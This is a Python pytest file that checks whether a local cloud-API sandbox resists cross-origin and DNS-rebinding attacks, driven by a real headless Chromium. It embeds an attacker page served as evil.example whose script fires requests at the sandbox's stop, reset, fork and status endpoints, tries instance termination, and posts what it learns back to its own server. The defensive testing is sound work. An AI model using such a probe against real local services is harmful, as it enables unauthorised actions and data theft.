"""A real browser on a foreign page asks the sandbox, at its address and at a rebound name, and gets nothing done."""

from __future__ import annotations

import http.server
import json
import os
import queue
import shutil
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.simulated import World

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
NAMES = "MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1"
# Without these Chromium asks its maker's servers at each start.
QUIET = (
    "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking "
    "--disable-component-update --disable-sync --disable-default-apps --disable-extensions"
).split()
PAGE = """\
<!doctype html><title>A page of somebody else's</title><script>
const form = new URLSearchParams({Action: 'TerminateInstances', Version: '2016-11-15', 'InstanceId.1': 'i-1'})
const asked = []
for (const place of ['http://127.0.0.1:PORT', 'http://localhost:PORT', 'http://rebound.example:PORT']) {
  for (const path of ['stop', 'reset', 'fork', 'advance']) {
    asked.push(['POST', `${place}/_sandbox/${path}`, JSON.stringify({seconds: 1})])
  }
  asked.push(['GET', `${place}/_sandbox/status`], ['GET', `${place}/`], ['POST', `${place}/`, form])
}
async function ask([method, address, body]) {
  const told = []
  for (const mode of ['cors', 'no-cors', 'same-origin']) {
    try {
      const answer = await fetch(address, {method, body, mode, headers: body ? {'Content-Type': 'text/plain'} : {}})
      told.push(`${mode}: ${answer.type} ${answer.status} ${await answer.text()}`)
    } catch (error) { told.push(`${mode}: ${error.name}`) }
  }
  return [address, told]
}
Promise.all(asked.map(ask)).then((told) => fetch('/told', {method: 'POST', body: JSON.stringify(told)}))
</script>
"""


class Attacker(http.server.BaseHTTPRequestHandler):
    """The server of the foreign page; it keeps what the page found out."""

    page = ""
    told: queue.Queue[Any] = queue.Queue()

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(self.page.encode())

    def do_POST(self) -> None:
        self.told.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture
def attacker(world: World) -> Iterator[http.server.ThreadingHTTPServer]:
    Attacker.page = PAGE.replace("PORT", str(urlsplit(world.url).port))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


def browser(folder: Path, *words: str) -> subprocess.Popen[str]:
    assert CHROMIUM is not None
    home = {"HOME": str(folder), "XDG_CONFIG_HOME": str(folder), "XDG_CACHE_HOME": str(folder)}
    return subprocess.Popen(
        [CHROMIUM, *QUIET, f"--user-data-dir={folder}", f"--host-resolver-rules={NAMES}", *words],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        env={**os.environ, **home, "NO_PROXY": "*"},
    )


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium on this machine")
def test_a_page_of_another_origin_gets_nothing_done(
    world: World, attacker: http.server.ThreadingHTTPServer, tmp_path: Path
) -> None:
    before = world.control("GET", "status")
    process = browser(tmp_path / "profile", "--remote-debugging-port=0", f"http://evil.example:{attacker.server_port}/")
    try:
        told = Attacker.told.get(timeout=60)
    finally:
        process.kill()
        process.communicate()
    assert len(told) == 21
    for address, outcomes in told:
        assert len(outcomes) == 3, address
        assert before["secret"] not in json.dumps(outcomes)
        for outcome in outcomes:  # refused by the browser, or an answer that it does not show
            assert outcome.endswith((": TypeError", "opaque 0 ")), (address, outcome)
    after = world.control("GET", "status")
    assert after["pid"] == before["pid"]
    assert abs(after["now"] - before["now"]) < 60 * after["speed"]
    # A request for an image or the like has no Origin: it counts as a stranger's, who may read public objects alone.
    assert {(row["write"], row["outcome"]) for row in world.control("GET", "calls")["calls"]} <= {
        (False, "AccessDenied")
    }


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium on this machine")
@pytest.mark.parametrize("path", ["/_sandbox/status", "/", "/_sandbox/calls"])
def test_a_rebound_name_is_refused(world: World, tmp_path: Path, path: str) -> None:
    address = f"http://rebound.example:{urlsplit(world.url).port}{path}"
    shown, _ = browser(tmp_path / "profile", "--dump-dom", address).communicate(timeout=60)
    assert "The sandbox answers at 127.0.0.1" in shown
    assert world.control("GET", "status")["secret"] not in shown
